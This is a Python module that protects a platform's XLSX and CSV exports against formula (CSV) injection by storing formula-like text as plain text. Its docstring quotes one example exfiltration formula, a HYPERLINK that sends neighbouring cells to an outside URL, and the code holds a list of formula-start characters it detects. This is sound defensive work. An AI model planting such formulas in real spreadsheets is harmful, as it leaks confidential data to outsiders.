"""The one guard for every spreadsheet the platform writes: text is never run as a formula.

Names come from people and files outside the secretariat (a landscape.yml item, a taxonomy node renamed by a
subcommittee member, a company's description); a text starting with `=` written by openpyxl becomes a live
formula (`=HYPERLINK("http://…?"&K2, "Click")` can send neighbouring confidential cells away when clicked).
Rules:
- XLSX: every workbook comes from `new_workbook()`; each of its sheets' `append` stores a text that a
  spreadsheet would read as a formula (FORMULA_START) as text (cell type `s`), so callers append values as
  before. `text_cell(sheet, value)` is the same guard for a cell made by hand (a styled cell).
- CSV: `csv_text(value)` prefixes such a text with `'` (the spreadsheet convention for "this is text"); the
  member importer takes the quote off again.
`core/tests/test_spreadsheets.py` fails when a module other than this one constructs an openpyxl Workbook.
"""

import datetime
import io

from django.utils import timezone
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import Cell

# What spreadsheet programs read as the start of a formula (OWASP "CSV injection"): =, +, -, @, tab, CR.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def text_cell(sheet, value) -> Cell:
    """A cell of `sheet` holding `value`; a text that looks like a formula stays text."""
    cell = Cell(sheet, column=1, row=1, value=value)  # as openpyxl's WriteOnlyCell; append places it
    if looks_like_formula(value):
        cell.data_type = "s"  # text, never a formula
    return cell


def guarded_row(sheet, values) -> list:
    """`values` ready for `sheet.append`: formula-like texts as text cells, the rest unchanged."""
    return [text_cell(sheet, value) if looks_like_formula(value) else value for value in values]


def new_workbook(*, write_only: bool = True) -> Workbook:
    """A workbook whose sheets (created by `create_sheet`, and the default sheet) guard every appended row."""
    workbook = _GuardedWorkbook(write_only=write_only)
    for sheet in workbook.worksheets:
        _guard(sheet)
    return workbook


class _GuardedWorkbook(Workbook):
    def create_sheet(self, title=None, index=None):
        return _guard(super().create_sheet(title, index))


def _guard(sheet):
    append = sheet.append

    def guarded_append(values):
        append(guarded_row(sheet, values))

    sheet.append = guarded_append
    return sheet


def csv_text(value) -> str:
    """One CSV field: dates in ISO form, None empty, a formula-like text prefixed with `'`."""
    if value is None:
        return ""
    if isinstance(value, datetime.date):
        return value.isoformat()
    text = str(value)
    return "'" + text if looks_like_formula(value) else text


def table_xlsx(headers, rows, *, title: str) -> bytes:
    """One sheet named `title`: a header row, then `rows`, as XLSX bytes. For the lists staff work from (the
    audit log, census non-responders, statistics): pass the values people read (Korean labels, not codes).
    Dates and times (in Korean time) are written as dates; lazy translations as their text."""
    workbook = new_workbook()
    sheet = workbook.create_sheet(title[:31])
    sheet.append([str(header) for header in headers])
    for row in rows:
        sheet.append([_table_value(sheet, value) for value in row])
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def _table_value(sheet, value):
    if isinstance(value, Promise):
        return str(value)
    if isinstance(value, datetime.datetime):
        value = timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
        cell = Cell(sheet, column=1, row=1, value=value)
        cell.number_format = "yyyy-mm-dd hh:mm"
        return cell
    if isinstance(value, datetime.date):
        cell = Cell(sheet, column=1, row=1, value=value)
        cell.number_format = "yyyy-mm-dd"
        return cell
    return value
